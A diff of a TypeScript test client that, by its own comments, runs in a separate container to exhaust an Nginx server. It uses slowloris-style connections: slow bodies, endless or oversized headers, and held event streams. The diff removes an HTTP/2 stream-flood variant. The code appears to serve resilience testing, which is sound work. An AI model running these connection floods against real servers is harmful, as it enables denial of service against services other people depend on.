@@ -1,7 +1,6 @@
 // Runs in a container of its own, so that it comes from an address of its own: node attack.ts KIND HOST PORT CONNECTIONS.
 // Opens connections that misuse Nginx, and again each one that ends. Prints "at the maximum" when all were open once, and what
 // came of them when standard input ends.
-import { connect as connectHttp2 } from 'node:http2';
 import { connect as connectTls } from 'node:tls';
 
 /** What came of an attack. */
@@ -16,10 +15,7 @@ const [kind = '', host = '', port = '', connections = ''] = process.argv.slice(2
 const INTERVAL_MS = 1000;
 /** Long enough that handshakes do not take the processors that the test's other client needs. */
 const RECONNECT_MS = 4000;
-const STREAMS_OF_A_CONNECTION = 16;
 const LARGE = 'h'.repeat(60_000);
-// In HTTP/2 the first one enters the table of both sides, and all others are a byte each.
-const LARGE_BY_REFERENCE = Array<string>(15).fill('h'.repeat(3900));
 const HEAD = 'HTTP/1.1\r\nHost: mooring';
 
 const outcome: AttackOutcome = { opened: 0, closed: 0, statuses: {} };
@@ -55,40 +51,12 @@ function attackByBytes(first: string, isFirstTry = true): void {
   });
 }
 
-/** Has as many streams as a connection may have, each with large headers and without an end, and again every few seconds. */
-function attackByStreams(isFirstTry = true): void {
-  const session = connectHttp2(`https://${host}:${port}`, { rejectUnauthorized: false });
-  let interval: NodeJS.Timeout;
-  session.on('connect', () => {
-    outcome.opened++;
-    if (isFirstTry) noteFirstTry();
-    interval = setInterval(ask, RECONNECT_MS);
-    ask();
-  });
-  session.on('error', () => {});
-  session.on('close', () => {
-    outcome.closed++;
-    clearInterval(interval);
-    setTimeout(attackByStreams, RECONNECT_MS, false);
-  });
-
-  function ask(): void {
-    for (let nth = 0; nth < STREAMS_OF_A_CONNECTION; nth++) {
-      const stream = session.request({ ':method': 'POST', ':path': '/', 'x-large': LARGE_BY_REFERENCE });
-      stream.on('response', (headers) => count(`${headers[':status']}`));
-      stream.on('error', () => {});
-      stream.resume().write('x');
-    }
-  }
-}
-
 const ATTACKS: Record<string, () => void> = {
   'slow bodies': () => attackByBytes(`POST / ${HEAD}\r\nContent-Length: 1000000\r\n\r\n`),
   'headers that never end': () => attackByBytes(`GET / ${HEAD}\r\nX: ${LARGE}`),
   'headers that are too large': () => attackByBytes(`GET / ${HEAD}\r\nX: ${LARGE}\r\nY: ${LARGE}\r\n\r\n`),
   'large requests that wait': () => attackByBytes(`GET /wait ${HEAD}\r\nX: ${LARGE}\r\n\r\n`),
   'open event streams': () => attackByBytes(`GET /wait ${HEAD}\r\nAccept: text/event-stream\r\n\r\n`),
-  'HTTP/2 streams': () => attackByStreams(),
 };
 
 for (let nth = Number(connections); nth > 0; nth--) ATTACKS[kind]?.();
